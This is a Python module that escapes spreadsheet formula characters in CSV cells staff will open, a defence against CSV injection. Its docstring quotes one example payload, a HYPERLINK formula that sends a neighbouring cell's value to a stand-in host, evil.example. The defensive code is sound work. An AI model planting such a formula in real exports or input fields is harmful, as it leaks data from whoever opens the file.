"""Cells of the CSV files staff open in a spreadsheet: text that cannot run as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and some also after a leading tab or carriage
return) as a formula, so a name or a User-Agent such as
``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` would run when the
file is opened. Such a cell is written with a leading apostrophe, which the
spreadsheet shows as plain text (OWASP's advice for CSV injection).

Only for files meant for people (the audit-trail export, the course
pairing-code CSV, the SIS preview's list of changes). The SIS export is
data that must re-import exactly and is written unchanged (docs/security.md).
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value) -> str:
    """``value`` as a cell a spreadsheet shows as text, never evaluates."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def text_row(values) -> list[str]:
    return [text_cell(value) for value in values]
